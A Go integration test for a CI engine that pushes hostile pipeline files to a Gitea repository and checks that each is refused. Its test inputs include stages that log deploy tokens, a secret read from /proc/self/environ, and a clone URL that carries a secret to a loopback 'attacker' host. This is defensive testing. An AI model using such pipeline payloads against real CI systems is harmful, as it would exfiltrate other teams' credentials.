package integration

import (
	"context"
	"fmt"
	"path/filepath"
	"strings"
	"testing"

	"github.com/slipwayci/slipway/integration/gitserver"
)

// hostilePipeline is a pipeline file a pusher writes into team-a's
// repository; %s is spliced in under metadata, %s under stages.
const hostilePipeline = `apiVersion: slipway.dev/v1
kind: Pipeline
metadata: {name: team-a%s}
on: {push: {branches: ["**"]}}
%s
stages:
  - {name: show, fake: {log: ["token={{ .Secrets.DEPLOY_TOKEN }}"], outputs: {leak: "{{ .Secrets.DEPLOY_TOKEN }}"}}}
`

// teamB is the operator's pipeline of another team, holding its
// concurrency group with a long stage.
const teamB = `apiVersion: slipway.dev/v1
kind: Pipeline
metadata: {name: team-b}
on: {push: {branches: [main]}}
concurrency: {group: deploy-team-b, policy: queue}
stages:
  - {name: slow, fake: {sleep: 1m}}
`

// What a person with push access to one watched repository can do with a
// pipeline file: name the secrets the operator granted that repository for
// the ref pushed — nothing else. Each attack is a real push to Gitea,
// delivered by Gitea; each is refused, visibly, and the legitimate use
// beside it still works.
func TestHostilePushesAreRefused(t *testing.T) {
	offNode(t)
	dir := t.TempDir()
	g := needGitea(t, filepath.Join(dir, "gitea"))
	ctx := context.Background()
	must(t, g.CreateOrg(ctx, "teams"))
	repoURL, err := g.CreateRepo(ctx, "teams", "team-a")
	must(t, err)
	teamBURL, err := g.CreateRepo(ctx, "teams", "team-b")
	must(t, err)
	writeFile(t, dir, "team-b.yaml", teamB)
	writeFile(t, dir, "hook-secret", "s3cret\n")
	writeFile(t, dir, "gitea-token", g.Token+"\n")
	writeFile(t, dir, "ops-token", "ops-token-value\n")
	writeFile(t, dir, "deploy-token", "deploy-token-value-42\n")
	writeFile(t, dir, "read-token", "read-token-value-7\n")
	config := writeFile(t, dir, "slipway.yaml", fmt.Sprintf(engineHeader+`  - name: team-a
    url: %q
    forge: gitea
    webhookSecret: {file: hook-secret}
    token: {file: gitea-token}
    pipelines: [{path: .slipway.yaml}]
    apps: [{name: team-a}]
    secrets:
      - {name: DEPLOY_TOKEN, from: {file: deploy-token}, branches: [main]}
      - {name: READ_TOKEN, from: {file: read-token}}
  - {name: team-b, url: %q, forge: gitea, webhookSecret: {file: hook-secret}, pipelines: [{file: team-b.yaml}]}
tokens:
  - {name: ops, role: admin, secret: {file: ops-token}}
`, repoURL, teamBURL))
	eng := startServe(t, config)
	for _, repo := range []string{"team-a", "team-b"} {
		_, err := g.AddWebhook(ctx, "teams", repo, eng.url+"/hooks/gitea", "s3cret", "push")
		must(t, err)
	}
	wt, err := gitserver.Clone(g.CloneURLWithToken(repoURL), filepath.Join(dir, "wt"))
	must(t, err)

	// push commits a pipeline file on branch, pushes it to Gitea and
	// returns the engine's record of Gitea's delivery.
	push := func(branch, pipelineFile string) giteaDelivery {
		t.Helper()
		sha, err := wt.Commit(branch, "pipeline", map[string]string{".slipway.yaml": pipelineFile})
		must(t, err)
		must(t, wt.Push(branch))
		return delivered(t, eng, sha)
	}
	runOf := func(d giteaDelivery) (status, reason, logs string) {
		t.Helper()
		runs := d.runs()
		if len(runs) != 1 {
			t.Fatalf("push started %d runs: %+v", len(runs), d)
		}
		var run struct{ Status, Reason string }
		waitFor(t, fmt.Sprintf("run %d to end", runs[0]), func() bool {
			eng.api(t, "GET", fmt.Sprintf("/api/v1/runs/%d", runs[0]), "ops-token-value", &run)
			return run.Status != "queued" && run.Status != "running"
		})
		out, _ := cli(t, "logs", fmt.Sprint(runs[0]), "--server", eng.url, "--token", "ops-token-value")
		return run.Status, run.Reason, out
	}

	t.Run("a secret source in a repository's pipeline is refused before any run", func(t *testing.T) {
		d := push("feature", fmt.Sprintf(hostilePipeline, "", "secrets: {DEPLOY_TOKEN: {env: HOME}, ENV: {file: /proc/self/environ}}"))
		if !strings.Contains(fmt.Sprint(d.Matches), "may not say where a secret comes from") || len(d.runs()) > 0 {
			t.Errorf("delivery: %+v", d)
		}
	})
	t.Run("a secret granted for main only is refused on a branch", func(t *testing.T) {
		d := push("feature", fmt.Sprintf(hostilePipeline, "", "secrets: [DEPLOY_TOKEN]"))
		status, reason, logs := runOf(d)
		want := `secret DEPLOY_TOKEN is not granted to repository team-a for ref "refs/heads/feature" (push)`
		if status != "failed" || !strings.Contains(reason, want) || !strings.Contains(fmt.Sprint(d.Matches), want) {
			t.Errorf("run %s %q, delivery %+v; want failed with %q", status, reason, d.Matches, want)
		}
		if strings.Contains(logs, "token=") {
			t.Errorf("a stage of a refused run ran:\n%s", logs)
		}
	})
	t.Run("the same pipeline on main gets the granted secret, masked", func(t *testing.T) {
		d := push("main", fmt.Sprintf(hostilePipeline, "", "secrets: [DEPLOY_TOKEN]"))
		status, reason, logs := runOf(d)
		if status != "succeeded" || !strings.Contains(logs, "token=***") || strings.Contains(logs, "deploy-token-value-42") {
			t.Errorf("run %s %q:\n%s", status, reason, logs)
		}
		var run struct {
			Stages []struct{ Outputs map[string]string }
		}
		eng.api(t, "GET", fmt.Sprintf("/api/v1/runs/%d", d.runs()[0]), "ops-token-value", &run)
		if len(run.Stages) != 1 || run.Stages[0].Outputs["leak"] != "***" {
			t.Errorf("stage outputs as served: %+v", run.Stages)
		}
	})
	t.Run("an app bound to another repository is refused", func(t *testing.T) {
		status, reason, _ := runOf(push("main", fmt.Sprintf(hostilePipeline, ", app: team-b", "")))
		if status != "failed" || !strings.Contains(reason, "app team-b is not bound to repository team-a") {
			t.Errorf("run %s %q", status, reason)
		}
	})
	// The attacker's host, on loopback: a refused run must never connect to it.
	attacker, reached := countConnections(t)
	for _, tt := range []struct{ name, repo, want string }{
		{"a clone source that carries a granted secret", "http://" + attacker.String() + "/{{ .Secrets.READ_TOKEN }}.git", "clone.repo: must be written literally"},
		{"a clone source outside cloneFrom", "http://" + attacker.String() + "/other.git", "may clone only itself or what cloneFrom lists"},
	} {
		t.Run(tt.name+" is refused and never fetched", func(t *testing.T) {
			p := fmt.Sprintf("apiVersion: slipway.dev/v1\nkind: Pipeline\nmetadata: {name: team-a}\non: {push: {branches: [\"**\"]}}\nsecrets: [READ_TOKEN]\n"+
				"stages:\n  - {name: clone, clone: {repo: %q}}\n", tt.repo)
			status, reason, logs := runOf(push("feature", p))
			if status != "failed" || !strings.Contains(reason, tt.want) {
				t.Errorf("run %s %q, want failed with %q", status, reason, tt.want)
			}
			if strings.Contains(logs, "read-token-value-7") || strings.Contains(reason, "read-token-value-7") {
				t.Errorf("the granted secret is in the run: %q\n%s", reason, logs)
			}
		})
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("refused runs connected to the attacker's host %d times", n)
	}
	t.Run("another repository's concurrency group cannot be cancelled", func(t *testing.T) {
		b, err := gitserver.Clone(g.CloneURLWithToken(teamBURL), filepath.Join(dir, "team-b"))
		must(t, err)
		sha, err := b.Commit("main", "a change of team b", map[string]string{"README": "team b"})
		must(t, err)
		must(t, b.Push("main"))
		runs := delivered(t, eng, sha).runs()
		if len(runs) != 1 {
			t.Fatalf("team-b's push started runs %v", runs)
		}
		var run struct{ Status string }
		waitFor(t, "team-b's run to start", func() bool {
			eng.api(t, "GET", fmt.Sprintf("/api/v1/runs/%d", runs[0]), "ops-token-value", &run)
			return run.Status == "running"
		})
		status, _, _ := runOf(push("main", fmt.Sprintf(hostilePipeline, "", "secrets: [DEPLOY_TOKEN]\nconcurrency: {group: deploy-team-b, policy: cancel-previous}")))
		eng.api(t, "GET", fmt.Sprintf("/api/v1/runs/%d", runs[0]), "ops-token-value", &run)
		if status != "succeeded" || run.Status != "running" {
			t.Errorf("team-a's run %s (want succeeded, not queued behind team-b); team-b's run %s (want still running)", status, run.Status)
		}
	})
}
